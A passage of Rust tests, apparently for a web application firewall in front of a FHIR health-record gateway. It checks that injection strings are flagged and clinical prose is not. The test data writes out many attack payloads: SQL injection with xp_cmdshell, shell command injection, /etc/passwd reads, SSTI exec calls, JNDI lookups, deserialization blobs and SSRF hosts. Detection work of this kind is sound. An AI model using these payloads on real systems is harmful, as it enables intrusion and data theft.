        ("@(7*7)", "ssti"),
        ("%{7*7}", "ssti"),
        ("{$smarty.version}", "ssti"),
        (
            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
            "ssti",
        ),
        ("....\\\\....\\\\etc\\\\passwd", "lfi"),
        ("\\\\evil\\share\\x", "rfi"),
        ("\\\\10.0.0.1@SSL\\DavWWWRoot\\x", "rfi"),
        ("/WEB-INF/web.xml", "lfi"),
        ("127.0.0.1; ls", "rce"),
        ("8.8.8.8|id", "rce"),
        ("10.0.0.1 && whoami", "rce"),
        ("127.000.000.001;id", "rce"),
        ("c\\at /et\\c/pas\\swd", "lfi"),
        ("x;w\\ho\\am\\i", "rce"),
        ("admin' #", "sqli"),
        ("admin\"/*", "sqli"),
        ("root@example.com'/* comment */;", "sqli"),
        ("1 or true", "sqli"),
        ("-1 AND false--", "sqli"),
        ("2 || true", "sqli"),
        (
            "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71),1234)",
            "sqli",
        ),
        ("x json_keys ((select 1))", "sqli"),
        ("%C0%AE%C0%AE%C0%AF", "encoding"),
    ];

    #[test]
    fn attacks_are_found_in_every_class() {
        let cases = ATTACKS;
        for (raw, class) in cases {
            assert_eq!(hit(raw), Some(*class), "{raw}");
        }
    }

    #[test]
    fn orm_lookups_ldap_filters_and_includer_parameters_are_found_as_names() {
        let name_hit = |n: &str| name(&normalise(n.as_bytes(), Plus::Space)).map(|h| h.rule);
        for (attack, rule) in [
            ("created_by__user__password__startswith", "orm-110"),
            ("email__iendswith", "orm-110"),
            ("data__has_key", "orm-110"),
            ("session=value)(uid=*", "ldapi-110"),
            ("a[constructor][prototype]", "proto-110"),
            ("mosConfig_absolute_path", "rfi-130"),
            ("_CONF[path]", "rfi-130"),
        ] {
            assert_eq!(name_hit(attack), Some(rule), "{attack}");
        }
        // FHIR's own parameters and modifiers use one underscore or a colon.
        for fine in [
            "_lastUpdated",
            "code:in",
            "date",
            "_has:Observation:patient:code",
            "first__name",
            "in",
        ] {
            assert_eq!(name_hit(fine), None, "{fine}");
        }
    }

    #[test]
    fn scanners_are_known_by_their_user_agent() {
        let agent = |ua: &str| scanner(ua.as_bytes()).map(|h| h.rule);
        for ua in [
            "Mozilla/5.0 zgrab/0.x",
            "sqlmap/1.8#stable (https://sqlmap.org)",
            "Nuclei - Open-source project",
            "Mozilla/4.0 (compatible; MSIE 7.0) Havij",
        ] {
            assert_eq!(agent(ua), Some("scanner-100"), "{ua}");
        }
        for ua in [
            "phr-app/1.4 (iOS 17.5)",
            "OWASP CRS test agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "python-httpx/0.27",
            "curl/8.5.0",
        ] {
            assert_eq!(agent(ua), None, "{ua}");
        }
    }

    #[test]
    fn session_ids_as_parameter_names_are_found() {
        let name_hit = |n: &str| name(&normalise(n.as_bytes(), Plus::Space)).map(|h| h.rule);
        for id in [
            "JSESSIONID",
            "laravel_session",
            "__Host-next-auth.session-token",
            "sessionid",
        ] {
            assert_eq!(name_hit(id), Some("session-110"), "{id}");
        }
        for fine in ["session", "patient", "session_date", "sid"] {
            assert_eq!(name_hit(fine), None, "{fine}");
        }
    }

    #[test]
    fn whole_paths_are_held_to_the_path_rules() {
        let path_hit = |p: &str| path(&normalise(p.as_bytes(), Plus::Literal)).map(|h| h.rule);
        for attack in [
            "/api/.claude/settings.json",
            "/x/.cursor/mcp.json",
            "/get/proc/interrupts",
            "/@fs/etc/passwd",
            "/wp-content/debug.log",
            "/backup.sql.zip",
            "/.cursorignore",
            "/.junie/guidelines.md",
            "/@id/__x00__",
            "/get/sys/class",
        ] {
            assert_eq!(path_hit(attack), Some("lfi-130"), "{attack}");
        }
        assert_eq!(path_hit("/get/https://example.com/"), Some("rfi-140"));
        for fine in [
            "/fhir/Observation/o-1",
            "/fhir/Patient/p-001/$everything",
            "/fhir/Binary/scan.v2.json",
            "/fhir/.well-known/smart-configuration",
            "/.phr/consents",
            "/fhir/DocumentReference/process-notes",
        ] {
            assert_eq!(path_hit(fine), None, "{fine}");
        }
    }

    /// The words' automaton builds from the constants: should it not, no base64 word would
    /// ever be found.
    #[test]
    fn the_base64_word_automaton_builds() {
        let (words, shortest) = base64_word_automaton().expect("the base64 word automaton builds");
        assert!(*shortest >= 5, "{shortest}");
        assert_eq!(words.patterns_len(), compiled().base64_words.len());
    }

    /// A file's decoded bytes get the verdict its base64 gets: every word and the stream
    /// header, at each byte offset, inside binary noise; and none on noise alone.
    #[test]
    fn the_base64_rules_on_decoded_bytes_agree_with_them_on_the_base64() {
        use base64::Engine as _;
        let noise: Vec<u8> = (0u32..300)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect();
        let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
        let words: Vec<Vec<u8>> = serialized_word_forms().map(|(w, _)| w).collect();
        for word in &words {
            for offset in 0..7 {
                let bytes = [&noise[..offset], word, &noise[100..]].concat();
                let on_base64 = plain_value(b64(&bytes).as_bytes()).map(|h| h.rule);
                let on_bytes = decoded_file(&bytes).map(|h| h.rule);
                assert!(on_bytes.is_some(), "{word:?} at {offset}");
                assert_eq!(on_bytes, on_base64, "{word:?} at {offset}");
            }
        }
        // The stream header is found wherever it is (CRS's base64 spellings, `rO0ABQ` …, also
        // ask that the byte after it be under 0x10).
        for offset in 0..7 {
            let bytes = [&noise[..offset], &JAVA_STREAM_HEADER, &noise[100..]].concat();
            assert_eq!(decoded_file(&bytes).map(|h| h.rule), Some("java-130"));
        }
        // A serialized object sent whole, with another version byte.
        let object = [&[0xAC, 0xED, 0x00, 0x06][..], &noise[..40]].concat();
        assert_eq!(decoded_file(&object).map(|h| h.rule), Some("java-110"));
        assert_eq!(
            plain_value(b64(&object).as_bytes()).map(|h| h.rule),
            Some("java-110")
        );
        assert_eq!(decoded_file(&noise), None);
        assert_eq!(plain_value(b64(&noise).as_bytes()), None);
    }

    #[test]
    fn base64_words_are_found_in_plain_values() {
        let plain_hit = |raw: &str| plain_value(raw.as_bytes()).map(|h| h.rule);
        for (attack, rule) in [
            ("cnVudGltZQ", "java-130"),
            ("HJ1bnRpbWU", "java-130"),
            ("rO0ABQ", "java-130"),
            ("KztAAU", "java-130"),
            ("Cs7QAF", "java-130"),
            // A serialized object sent whole: `AC ED 00 05 73 72 …`.
            ("rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5v", "java-110"),
            ("XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCkK", "nodejs-110"),
            (
                "cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoJ3dob2FtaScpCg",
                "nodejs-110",
            ),
        ] {
            assert_eq!(plain_hit(attack), Some(rule), "{attack}");
        }
        for fine in [
            "Observation",
            "p-001",
            "2026-04-10",
            "f001",
            "self-management",
            "8f14e45fceea167a5a36dedd4bea2543",
            "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9",
            "SGVsbG8gd29ybGQ",
            // The stream's header only counts where the value starts, as written.
            "xrO0ABXNy",
            "ro0abxny",
        ] {
            assert_eq!(plain_hit(fine), None, "{fine}");
        }
    }

    /// The pre-filter in front of the base64 automaton may skip a value only if no pattern
    /// could be in it.
    #[test]
    fn every_base64_pattern_has_the_marks_the_prefilter_counts() {
        let (patterns, _) = base64_patterns();
        for p in &patterns {
            let marked = p.bytes().skip(1).filter(|&b| upper_or_digit(b)).count();
            assert!(marked >= BASE64_MARKED, "{p}");
            assert!(base64_words(p.as_bytes()).is_some(), "{p}");
            assert!(
                base64_words(format!("x{p}").as_bytes()).is_some(),
                "{p} inside a run"
            );
        }
    }

    #[test]
    fn headers_that_reach_past_the_gateway_are_found() {
        let rule = |n: &str, v: &str| header(n, v.as_bytes(), "/fhir/Observation").map(|h| h.rule);
        for (name, value, expected) in [
            ("x-http-method-override", "DELETE", "protocol-101"),
            ("x-method-override", "PUT", "protocol-101"),
            ("request-range", "bytes=0-1023", "protocol-110"),
            ("lock-token", "<opaquelocktoken:1>", "protocol-110"),
            ("x-middleware-subrequest", "middleware", "protocol-110"),
            ("content-encoding", "deflate", "protocol-110"),
            (
                "content-type",
                "text/plain; charset=garbage",
                "protocol-120",
            ),
            (
                "content-type",
                "application/json; charset=\"UTF-80\"",
                "protocol-120",
            ),
            (
                "content-type",
                "application/x-www-form-urlencoded;charset=utf-7",
                "protocol-120",
            ),
            (
                "range",
                "bytes=1-10,11-20,21-30,31-40,41-50,51-60",
                "protocol-130",
            ),
            (
                "cookie",
                "$Version=1; session=\"a; PHPSESSID=b\"",
                "protocol-160",
            ),
            (
                "content-type",
                "application/x-www-form-urlencoded;boundary=\"application/json\"",
                "protocol-120",
            ),
            // CRS 920470, 920530: Content-Types two parsers read two ways.
            (
                "content-type",
                "text/plain; charset=\"UTF-8\"; garbage",
                "protocol-170",
            ),
            ("content-type", "text/xml; blah", "protocol-170"),
            (
                "content-type",
                "text/plain; a=1; b=2; c=3; d=4; e=5; f=6; g=7; h=8; i=9",
                "protocol-170",
            ),
            (
                "content-type",
                "multipart/form-data; boundary=  test_data_123456",
                "protocol-170",
            ),
            (
                "content-type",
                "application/x-www-form-urlencoded; charset=utf-8; CHARSET=utf-7",
                "protocol-170",
            ),
            ("content-type", "", "protocol-170"),
            ("content-type", "application", "protocol-170"),
            ("content-type", "text/plain; charset=\"utf-8", "protocol-170"),
            ("content-type", "text/plain; charset=/gar/bage", "protocol-170"),
            // CRS 920600: an answer asked for in EBCDIC.
            ("accept", "text/html;q=0.9;charset=CP1026,*/*;q=0.8", "protocol-120"),
            // CRS 920210: conflicting or repeated connection options.
            ("connection", "keep-alive,close", "protocol-180"),
            ("connection", "close, close", "protocol-180"),
            // RFC 9110 section 14.4: a request range of a representation is not a thing.
            ("content-range", "bytes 4096-8192/8192", "protocol-110"),
            ("accept-charset", "utf-8", "protocol-110"),
            // A Range not in RFC 9110's form (CRS 921230), or more than five.
            ("range", "0-1", "protocol-130"),
            ("range", "bytes=a-b", "protocol-130"),
            ("range", "bytes=-", "protocol-130"),
            ("range", "items=0-1", "protocol-130"),
            ("range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12", "protocol-130"),
            // CRS 920275: Fetch metadata a browser never sends.
            ("sec-fetch-user", "foo", "protocol-200"),
            ("sec-ch-ua-mobile", "?2", "protocol-200"),
            ("sec-fetch-site", "evil", "protocol-200"),
            ("sec-fetch-mode", "cors, navigate", "protocol-200"),
            // CRS 920520: a long coding list.
            ("accept-encoding", "gzip;q=1.0, deflate;q=0.9, br;q=0.8, zstd;q=0.7, compress;q=0.6, x-gzip;q=0.5, identity;q=0.4, *;q=0.1", "protocol-190"),
            // CRS 920521: a coding no one registered, or a parameter other than a weight.
            ("accept-encoding", "foobar", "protocol-190"),
            ("accept-encoding", "gzip;level=9", "protocol-190"),
            // CRS 920510: response directives, unknown ones, arguments that are no number.
            ("cache-control", "private", "protocol-220"),
            ("cache-control", "foo=bar", "protocol-220"),
            ("cache-control", "max-age=1, foo=bar", "protocol-220"),
            ("cache-control", "max-age=x", "protocol-220"),
            ("cache-control", "no-cache=\"set-cookie\"", "protocol-220"),
        ] {
            assert_eq!(rule(name, value), Some(expected), "{name}: {value}");
        }
        for (name, value) in [
            ("content-encoding", "identity"),
            ("content-type", "application/fhir+json; charset=utf-8"),
            ("content-type", "text/plain; charset=ISO-8859-1"),
            ("content-type", "text/plain; charset=windows-1252"),
            ("content-type", "application/json"),
            ("range", "bytes=0-1023,2048-4095"),
            ("range", "bytes=-500"),
            ("range", "bytes=9500-"),
            ("range", "bytes=0-0, -1"),
            ("range", "Bytes=0-499"),
            ("sec-fetch-user", "?1"),
            ("sec-fetch-site", "same-origin"),
            ("sec-fetch-mode", "navigate"),
            ("sec-ch-ua-mobile", "?0"),
            ("cookie", "session=abc; theme=dark"),
            ("content-type", "multipart/form-data; boundary=xyz"),
            (
                "content-type",
                "application/x-www-form-urlencoded; charset='utf-8'",
            ),
            ("if-match", "W/\"3\""),
            ("x-request-id", "01a2"),
            ("content-type", "text/plain;"),
            ("content-type", "application/json;charset=\"utf-8\""),
            (
                "content-type",
                "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            ),
            (
                "content-type",
                "multipart/mixed; boundary=-----boundary_data:55780(123,45:667)+part",
            ),
            (
                "content-type",
                "text/plain; title=\"a\\\"b\"; format=flowed",
            ),
            ("accept", "application/fhir+json;charset=utf-8, */*;q=0.5"),
            ("accept", "text/html;q=0.9,*/*;q=0.8"),
            ("connection", "keep-alive, Upgrade"),
            ("connection", "close"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("accept-encoding", "compress;q=0.5, gzip;q=1.0"),
            ("accept-encoding", "gzip;q=1.0, identity; q=0.5, *;q=0"),
            ("accept-encoding", ""),
            ("accept-encoding", "GZIP,,deflate"),
            ("cache-control", "no-cache"),
            ("cache-control", "max-age=123, max-stale, no-cache"),
            ("cache-control", "no-cache, no-store, must-revalidate"),
            ("cache-control", "max-age=1,,,max-stale=2"),
            ("cache-control", "Max-Age=0"),
            (
                "cache-control",
                "only-if-cached, min-fresh=60, stale-if-error=300",
            ),
        ] {
            assert_eq!(rule(name, value), None, "{name}: {value}");
        }
        let crlf_path = normalise(b"/foo%0Abar", Plus::Literal);
        assert_eq!(path(&crlf_path).map(|h| h.rule), Some("protocol-150"));
        let six = "bytes=1-2,3-4,5-6,7-8,9-10,11-12";
        assert_eq!(
            header("range", six.as_bytes(), "/docs/report.PDF"),
            None,
            "a PDF viewer's ranges"
        );
        let many = vec!["1-2"; 63].join(",");
        assert_eq!(
            header(
                "range",
                format!("bytes={many}").as_bytes(),
                "/docs/report.pdf"
            )
            .map(|h| h.rule),
            Some("protocol-130"),
            "63 ranges even of a PDF"
        );
        let overridden = |n: &str, v: &str| method_override(n, v, None).map(|h| h.rule);
        let in_query = |v: &str, m: &str| method_override("_method", v, Some(m)).map(|h| h.rule);
        assert_eq!(in_query("POST", "GET"), Some("protocol-100"));
        assert_eq!(in_query("GET", "POST"), Some("protocol-100"));
        assert_eq!(in_query("abcdefghij", "POST"), Some("protocol-100"));
        for (v, m) in [
            ("post", "POST"),
            ("AB", "POST"),
            ("ABCDEFGHIJK", "POST"),
            ("DELETE1", "POST"),
            ("X-DELETE", "POST"),
            ("", "POST"),
        ] {
            assert_eq!(in_query(v, m), None, "{v} on {m}");
        }
        assert_eq!(overridden("_method", "delete"), Some("protocol-100"));
        assert_eq!(overridden("_method", "put"), Some("protocol-100"));
        for (n, v) in [
            ("_method", "post"),
            ("_method", "x-delete"),
            ("_method", ""),
            ("method", "delete"),
        ] {
            assert_eq!(overridden(n, v), None, "{n}={v}");
        }
        assert_eq!(
            path(&normalise(b"/get/dump.rdb", Plus::Literal)).map(|h| h.rule),
            Some("lfi-130")
        );
        assert_eq!(path(&normalise(b"/fhir/Binary/b-1", Plus::Literal)), None);
    }

    #[test]
    fn upload_names_that_a_server_would_run_are_found() {
        let name_hit = |n: &str| file_name(n).map(|h| h.rule);
        for (attack, rule) in [
            ("a.php..", "php-150"),
            ("fda.php5", "php-150"),
            ("fthi/sfewfda.phtml", "php-150"),
            ("dangerous. phtml", "php-150"),
            ("x.PHAR", "php-150"),
            ("shell.jsp ", "java-140"),
            ("foo.jspx...", "java-140"),
            ("sess_12345678901234567890", "php-160"),
            ("C:\\temp\\sess_malicious12345678901", "php-160"),
            // rce-250: a server's own configuration or credentials.
            (".htaccess", "rce-250"),
            ("wp-config-php.bak", "rce-250"),
            ("config.yml ", "rce-250"),
            (".boto", "rce-250"),
            ("uploads/.user.ini", "rce-250"),
        ] {
            assert_eq!(name_hit(attack), Some(rule), "{attack}");
        }
        for fine in [
            "checkup.pdf",
            "php-notes.txt",
            "photo.php.jpg",
            "scan.jpeg",
            "session.txt",
            "sess_1",
            "jsp-manual.pdf",
            "config-report.pdf",
            "my.htaccess.txt",
            "settings.png",
        ] {
            assert_eq!(name_hit(fine), None, "{fine}");
        }
    }

    #[test]
    fn base64_padding_is_no_expression_but_an_equals_sign_inside_is() {
        // An attachment's base64 (its only candidate character the closing `=`) is not
        // handed to libinjection; a comparison in the value still is.
        assert!(!libinjection_sqli(
            "MS4yLjg0MC4xMTQzNTAuMS4xMy4wLjEuNy4xLjE="
        ));
        assert!(!libinjection_sqli("="));
        assert!(libinjection_sqli("1 or 1=1"));
        assert!(libinjection_sqli("1 or 1=1 limit 1=="));
    }

    #[test]
    fn quoted_words_as_prose_writes_them_are_not_sql() {
        for prose in [
            "Rate as \"none\", \"mild\", \"moderate\" or \"severe\"",
            "Label says \"take with food\"",
            "\"Fasting\" was ticked (\"yes\").",
        ] {
            assert!(quoted_words(prose.as_bytes()), "{prose}");
            assert!(!libinjection_sqli(prose), "{prose}");
        }
        for code in [
            "\" or \"1\"=\"1",
            "x\" or \"a\"=\"a",
            "\"x\" union select \"y\"",
            "a \"union select password from users where\" 1",
            "\"a\" or \"1\"",
            "\"unclosed",
            "\"a\"=\"a\"",
            "\"a\" or 1",
            "\"a\" order by \"b\"",
            "\"a\" or true",
        ] {
            assert!(!quoted_words(code.as_bytes()), "{code}");
        }
        for attack in ["\" or \"1\"=\"1", "1\" or \"x\"=\"x\" --"] {
            assert!(libinjection_sqli(attack), "{attack}");
        }
    }

    #[test]
    fn parentheses_as_prose_writes_them_are_not_sql() {
        for prose in [
            "Blood pressure systolic 0-0 (sitting)",
            "Body mass index (BMI) [Ratio]",
            "(normal)",
            "検査(基準値内)",
            "Oxycodone Hydrochloride 5mg oral tablet (Roxicodone",
            "Service User (Logon)",
            "take with food (q.d.)",
            "while (foo) is bar.",
            "4-(Dimethylamino)benzoic acid",
            "2-(aminomethyl)phenol",
            "3-(N-morpholino)propanesulfonic acid",
        ] {
            assert!(prose_parentheses(prose.as_bytes()), "{prose}");
            assert!(!libinjection_sqli(prose), "{prose}");
        }
        for code in [
            "sleep(5)",
            "1) or (1",
            "x) or (y",
            "(select 1)",
            "( select 1)",
            "(SELECT password FROM users",
            "(1)",
            "1234.5) ORDER BY 1",
            "a (b) || c",
            "(true)",
            "(note) and more",
            "FormatCode(s)",
            "id having (1 or true)",
            "1-(select 1)",
            "1-(2)",
            "x -(a)",
        ] {
            assert!(!prose_parentheses(code.as_bytes()), "{code}");
        }
        // What libinjection refuses still reaches it.
        for attack in [
            "1 and (select sleep(5))",
            "(select id from users limit 1,1)",
            "1234.5) ORDER BY 1",
            "id having (1 or 1)",
        ] {
            assert!(libinjection_sqli(attack), "{attack}");
        }
    }

    /// An apostrophe inside a word is English's (`Murphy's`, `can't`); with an aside and an
    /// `and` in the note, libinjection refused it. A quote that starts, ends or joins SQL
    /// words still sends the value to libinjection.
    #[test]
    fn a_lone_apostrophe_inside_a_word_is_english() {
        for note in [
            "Sign (positive) Murphy's and RUQ tenderness",
            "Left (dominant) hand weakness and can't grip",
            "Count (platelets) low and patient's INR 2.5",
        ] {
            assert!(lone_apostrophe(note.as_bytes()), "{note}");
            assert!(!libinjection_sqli(note), "{note}");
        }
        for code in [
            "sdfsd'or 1 > 1",
            "aa'OR current_date*0",
            "x'union select 1",
            "a'b'c",
            "'abc",
            "abc'",
            "abc' or 1",
            "x\\'y",
        ] {
            assert!(!lone_apostrophe(code.as_bytes()), "{code}");
        }
        for attack in ["sdfsd'or 1 > 1", "aa'or current_date*0"] {
            assert!(libinjection_sqli(attack), "{attack}");
        }
    }

    /// A `;` that separates a note's items (`Count (WBC) high; CRP elevated and fever`) no
    /// longer sends it to libinjection; a stacked query's `;` still does, and is refused.
    #[test]
    fn list_semicolons_are_not_stacked_queries() {
        for note in [
            "Count (WBC) high; CRP elevated and fever",
            "Upper (GI) bleed ruled out; Hb stable and BUN normal",
            "Lower (L5) radiculopathy; patient's SLR positive and improving",
            "Format (PDF) uploaded; reviewed and signed",
        ] {
            assert!(!libinjection_sqli(note), "{note}");
            assert_eq!(hit(note), None, "{note}");
        }
        for attack in [
            "1; select pg_sleep(5)",
            "1; SELECT password FROM users",
            "1;select 1",
            "1;\tselect 1",
            "1; exec master..xp_cmdshell 'dir'",
            "1; xp_cmdshell dir",
            "1; copy (select 1) to program 'id'",
            "1; attach database 'x.db' as x",
            "x; update users set role = 1",
            "1; declare @q varchar(99)",
            "1; insert into users values (1)",
            "1; drop table x",
            "1; truncate users",
            "'; truncate users;--",
            "1;truncate table users",
            "1; begin dbms_lock.sleep(5); end",
            "1; (select 1)",
            "1; /**/select 1",
        ] {
            assert!(hit(attack).is_some(), "{attack}");
        }
        let stacked = |v: &str| {
            stacked_statement(&normalise(v.as_bytes(), Plus::Space).folded).map(|h| h.rule)
        };
        for attack in [
            "1;select 1",
            "1;\tSELECT * FROM users",
            "1; /**/select @@version",
            "1; (select name from users)",
            "1; xp_cmdshell dir",
            "1; copy (select 1) to program 'id'",
            "1; insert into t values (1)",
            "x; update users set role = 1",
            "1; delete from users",
            "1; create user x",
            "1; declare @q int",
            "1; set @a = 1",
            "1; load data infile 'x'",
            "1; attach database 'x.db' as x",
            "1; exec('x')",
            "1; exec master..xp_cmdshell 'dir'",
            "1; exec (@sql)",
            "1;select@@version",
            "1; shutdown",
            "1; truncate users",
            "'; truncate users;--",
            "1; truncate users /* x */",
        ] {
            assert_eq!(stacked(attack), Some("sqli-130"), "{attack}");
        }
        for note in [
            "Plan: recheck; select appropriate dose",
            "labs normal; update family",
            "BP 130/80; set goal 120/80",
            "f/u 2 wks; call if worse",
            "; copy to patient",
            "discussed; delete old allergy entry",
            "reviewed; insert IUD next visit",
            "done; shutdown of clinic for holidays",
            "lipids high; truncate the fried food, not the statin",
            "select the appropriate dose; drop by 5 mg if bp < 100",
        ] {
            assert_eq!(stacked(note), None, "{note}");
        }
    }

    /// Every value rule that could be gated by its prefix literals is: a rule that falls
    /// into the ungated set (an alternative whose literal prefix is one byte, or a class of
    /// more than eight bytes right after one: `\{\d`) is scanned over every value and costs
    /// every first sight of a text (ssti-100 did, for one alternative, in 7e6092b).
    #[test]
    fn the_ungated_value_rules_are_the_known_ones() {
        let values = &compiled().values;
        let ungated: Vec<&str> = values
            .unprefixed_rules
            .iter()
            .map(|&i| values.rules[i].id)
            .collect();
        assert_eq!(
            ungated,
            [
                "orm-100",
                "rce-100",
                "rce-141",
                "rce-105",
                "rce-106",
                "rce-190",
                "rce-150",
                "rce-180",
                "php-140",
                "php-170",
                "xss-132",
                "rce-233",
                "rce-235",
                "lfi-120",
                "nosql-100",
            ]
        );
    }

    /// `sqli-120`'s two shapes, and what prose writes close to them.
    #[test]
    fn login_comments_and_constant_conditions_are_sql() {
        let shape = |v: &str| sql_value_shape(&normalise(v.as_bytes(), Plus::Space).folded);
        for attack in [
            "admin' #",
            " admin'-- ",
            "a.b@c.jp\"/*",
            "1 or true",
            "10 OR TRUE -- x",
            "-12 and false#",
            "3 || true;",
        ] {
            assert_eq!(shape(attack).map(|h| h.rule), Some("sqli-120"), "{attack}");
        }
        for prose in [
            "7\" #2 circular needle",
            "Mary's #1 concern",
            "O'Neil -- called back",
            "1 or 2 tablets",
            "1 or truly more",
            "1 and false alarm",
            "1 or true-ish",
            "or true",
            "admin #1",
        ] {
            assert_eq!(shape(prose), None, "{prose}");
        }
    }

    /// Clinical notes put asides after words SQL also names functions (`Left (arm)`,
    /// `Count (WBC)`, `Upper (GI)`) and join findings with `and`: libinjection read each as
    /// a call in a condition and refused the note. Asides are not SQL's; what an injection
    /// does with parentheses still reaches libinjection and is refused.
    #[test]
    fn asides_in_clinical_notes_are_not_sql() {
        for note in [
            "Left (arm) 130/80 and right (arm) 128/78",
            "Count (WBC) 5.4 and Hb 13.2",
            "Upper (GI) endoscopy normal and biopsy negative",
            "Lower (L4-L5) back pain and sciatica",
            "Max (peak) flow 350 L/min and improving",
            "Hour (0) glucose 90 and hour (2) glucose 140",
            "One quarter (24%) of people have had an affair and cheated",
            "Format (PDF) report attached and reviewed",
            "(fasting OR nonfasting) AND glucose",
            "User (patient) reports improvement and no side effects",
            "左腕 (座位) 130/80 and 右腕 128/78",
        ] {
            assert!(prose_parentheticals(note.as_bytes()), "{note}");
            assert!(!libinjection_sqli(note), "{note}");
        }
        for code in [
            "1 and length (password) > 5",
            "-1.5 or ascii (x) > 64",
            "and (password) like 0x61",
            "id having (1 or true)",
            "x) or (y",
            "a (b) or (c",
            "a (b (c) d) or e",
            "a(b) or c",
            "a (b) || c",
            "x (select 1) or y",
            "1 or (1)",
            "name (x) or y order by (2)",
        ] {
            assert!(!prose_parentheticals(code.as_bytes()), "{code}");
        }
        for attack in [
            "1 and length (password) > 5",
            "-1 or ascii (x) > 64",
            "id having (1 or true)",
            "x) or (y",
            "1 or (1)",
        ] {
            assert!(libinjection_sqli(attack), "{attack}");
        }
    }

    /// The byte sets `value_with` asks a short value about before it runs `split_word` and
    /// libinjection are what those need: over text whose only special character is one
    /// ASCII byte, in shapes that fire them, each fires only for bytes of its set (and does
    /// fire, for several of them).
    #[test]
    fn the_pre_checked_bytes_are_the_ones_the_detectors_need() {
        let split_shapes = |c: char| {
            [
                format!("ab{c}cd ef"),
                format!("cu{c}v r l"),
                format!("{c}i{c}fconfig"),
                format!("x{c}{c}i{c}fconfig"),
                format!("ti{c}{c}me"),
                format!("una{c}{c}me"),
            ]
        };
        let sql_shapes = |c: char| {
            [
                format!("1{c}or{c}1{c}{c}x"),
                format!("1 {c}{c} or 1 1{c}"),
                format!("x{c} or {c}y"),
                format!("admin{c}{c} x"),
                format!("1{c} union select 1{c}{c}"),
            ]
        };
        let (mut split, mut sql) = (Vec::new(), Vec::new());
        for byte in 0..0x80u8 {
            let c = char::from(byte);
            if split_shapes(c).iter().any(|t| split_word(t).is_some()) {
                split.push(byte);
            }
            if sql_shapes(c).iter().any(|t| libinjection_sqli(t)) {
                sql.push(byte);
            }
        }
        let within = |fired: &[u8], set: &[u8]| fired.iter().all(|b| set.contains(b));
        assert!(
            within(&split, SPLIT_WORD_BYTES),
            "{:?}",
            String::from_utf8_lossy(&split)
        );
        assert!(split.len() >= 4, "{:?}", String::from_utf8_lossy(&split));
        assert!(
            within(&sql, SQL_BREAKOUT_BYTES),
            "{:?}",
            String::from_utf8_lossy(&sql)
        );
        assert!(sql.len() >= 4, "{:?}", String::from_utf8_lossy(&sql));
    }

    /// A FHIR local reference or a URL's fragment is no MySQL comment; any other `#` still
    /// sends the value to libinjection, which refuses what it closes.
    #[test]
    fn references_and_url_fragments_are_no_sql_comment() {
        for reference in [
            "#reporter",
            "#19",
            "http://loinc.org/rdf#54124-3",
            "https://example.org/fhir/ValueSet/x#v1.2_a",
        ] {
            let at = reference.find('#').unwrap();
            assert!(reference_fragment(reference.as_bytes(), at), "{reference}");
            assert!(!libinjection_sqli(reference), "{reference}");
        }
        for comment in [
            "Local #35",
            "Platelets [#/volume] in Blood",
            "1 or true#x",
            "1-0#x",
            "#",
            "admin#",
            "#x y",
            "http://a.example/ or 1#x",
            "loinc.org/rdf#54124-3",
        ] {
            let at = comment.find('#').unwrap();
            assert!(!reference_fragment(comment.as_bytes(), at), "{comment}");
        }
        for attack in ["1 or 1#", "-1 or 1#x", "1 union select 1#", "1 or true#x"] {
            assert!(libinjection_sqli(attack), "{attack}");
        }
    }

    /// An HL7 v2 message is read field by field: its separators are no shell syntax, and an
    /// injection inside a field is still found (R-WAF-1).
    #[test]
    fn hl7_v2_messages_are_read_by_field() {
        let message = "MSH|^~\\&|LAB|HOSP|PHR|APP|20261127||ORU^R01|M1|P|2.5.1\rPID|1||12345^^^HOSP^MR||YAMADA^TARO||19800101|M\rOBX|1|NM|2093-3^Cholesterol^LN||210|mg/dL|<200|H|||F\rOBX|2|ID|11556-8^Oxygen^LN||Y||||||F\rNTE|1||rash & hives; cat allergy";
        assert_eq!(hit(message), None);
        // The same text without its `MSH` header is no message: `|ID|` pipes to `id`.
        assert_eq!(
            hit(&message[message.find('\r').unwrap() + 1..]),
            Some("rce")
        );
        for (field, class) in [
            ("' or 1=1--", "sqli"),
            ("<script>alert(1)</script>", "xss"),
            ("; cat /etc/passwd", "lfi"),
            ("$(id)", "rce"),
            ("${jndi:ldap://x.example/a}", "jndi"),
        ] {
            let attack = format!("{message}\rOBX|3|ST|x||{field}");
            assert_eq!(hit(&attack), Some(class), "{field}");
        }
    }

    /// A public name that spells an address reaches it (R-WAF-1, SSRF): a wildcard DNS
    /// service answers with the address the name holds, dotted, dashed or in hexadecimal.
    #[test]
    fn names_that_spell_an_internal_address_are_internal() {
        for host in [
            "127.0.0.1.nip.io",
            "app.10.0.0.5.nip.io",
            "magic-127-0-0-1.sslip.io",
            "192-168-1-1.traefik.me",
            "7f000001.nip.io",
            "app-a9fea9fe.xip.io",
            "169.254.169.254.attacker.example",
        ] {
            assert!(internal_host(host), "{host}");
        }
        for host in [
            "1.2.3.4.nip.io",
            "8-8-8-8.sslip.io",
            "08080808.nip.io",
            "www.nip.io",
            "10.example.org",
            "1.0.0.127.in-addr.arpa",
            "v1.2.3.4.example.org",
        ] {
            assert!(!internal_host(host), "{host}");
        }
    }

    #[test]
    fn ordinary_values_pass() {
        for raw in [
            // A note's line that starts with a prose word (`rce-100`), passwords whose `$`
            // joins no program's name (`rce-220`), a language tag after `aa-` (`rce-105`), a
            // mail domain (`java-120`).
            "Seen today.\nID card renewed at the front desk.",
            "Plan:\nCat scan booked for Monday",
            "Pa$$word1!",
            "7AY$Towh+P",
            "*ZL8b$*n1@",
            "Opera/9.80 (X11; Linux i686; aa-ET) Presto/2.9.168",
            "ihsanogluerem@bsh.net",
            // Backslashes between letters that no shell reads (`shell_escaped`).
            "C:\\Users\\hanako\\Documents\\血液検査.pdf",
            "line one\\nline two",
